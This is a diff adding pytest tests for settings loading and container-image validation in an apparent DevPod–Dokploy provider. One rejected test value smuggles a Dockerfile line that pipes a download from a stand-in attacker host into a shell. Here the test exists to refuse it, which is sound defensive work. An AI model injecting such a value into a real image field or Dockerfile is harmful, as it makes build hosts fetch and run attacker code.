@@ -103,3 +103,43 @@ def test_machine_id_at_the_limit_fits_dokploy_app_name() -> None:
     machine_id = "a" * MAX_MACHINE_ID_LENGTH
     assert machine_id_from_env({"MACHINE_ID": machine_id}) == machine_id
     assert len(f"devpod-{machine_id}-abcdef") == 63
+
+
+def test_load_settings_reads_only_the_mapping_it_is_given(monkeypatch) -> None:
+    # DevPod exports the options; a caller passing its own mapping must get exactly that.
+    monkeypatch.setenv("DOKPLOY_SERVER_URL", "https://exported.example")
+    monkeypatch.setenv("DOKPLOY_API_TOKEN", "exported-token")
+    monkeypatch.setenv("WORKSPACE_CPUS", "7")
+    settings = load_settings(
+        {"DOKPLOY_SERVER_URL": "https://given.example", "DOKPLOY_API_TOKEN": "given-token"}
+    )
+    assert settings.server_url_raw == "https://given.example"
+    assert settings.workspace_cpus == ""
+    with pytest.raises(ConfigurationError, match="DOKPLOY_SERVER_URL is required"):
+        load_settings({})
+
+
+@pytest.mark.parametrize(
+    "image",
+    [
+        "cruizba/ubuntu-dind:noble-27.0.3-r0",
+        "debian:bookworm",
+        "registry.example.com:5000/team/dind:27",
+        "ghcr.io/org/img@sha256:" + "a" * 64,
+    ],
+)
+def test_workspace_image_accepts_image_references(image: str) -> None:
+    settings = load_settings(
+        {"DOKPLOY_SERVER_URL": "https://d.example", "DOKPLOY_API_TOKEN": "tok1", "WORKSPACE_IMAGE": image}
+    )
+    assert settings.workspace_image == image
+
+
+@pytest.mark.parametrize(
+    "image", ["debian:bookworm\nRUN curl evil.example | sh", "debian bookworm", "Debian:12", "a:b:c"]
+)
+def test_workspace_image_refuses_what_would_change_the_dockerfile(image: str) -> None:
+    with pytest.raises(ConfigurationError, match="WORKSPACE_IMAGE"):
+        load_settings(
+            {"DOKPLOY_SERVER_URL": "https://d.example", "DOKPLOY_API_TOKEN": "tok1", "WORKSPACE_IMAGE": image}
+        )
